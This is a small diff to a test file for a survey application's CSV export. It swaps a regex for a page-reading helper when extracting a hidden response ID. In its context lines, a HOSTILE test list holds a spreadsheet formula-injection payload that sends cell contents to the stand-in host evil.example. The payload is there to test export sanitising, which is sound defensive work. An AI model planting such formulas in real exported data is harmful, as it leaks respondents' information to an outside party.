@@ -23,7 +23,7 @@ from litestar.testing import AsyncTestClient
 from survey.app import create_app
 from survey.exports.csv import neutralise
 from survey.settings import Settings
-from tests.helpers import open_wave, post_console_form, post_form, sign_in_as
+from tests.helpers import open_wave, post_console_form, post_form, read_page, sign_in_as
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&B2,"Click")',
@@ -64,7 +64,7 @@ async def _answer(app, wave, comment: str, change: str) -> None:
     """One respondent: the first (and only) page, sent as a browser sends it."""
     async with AsyncTestClient(app) as client:
         page = await client.get(f"/r/{wave.token}?lang=en")
-        response_id = re.search(r'name="_response_id" value="([^"]+)"', page.text).group(1)
+        response_id = read_page(page.text).hidden["_response_id"]
         sent = await post_form(
             client,
             f"/r/{wave.token}/p/1",
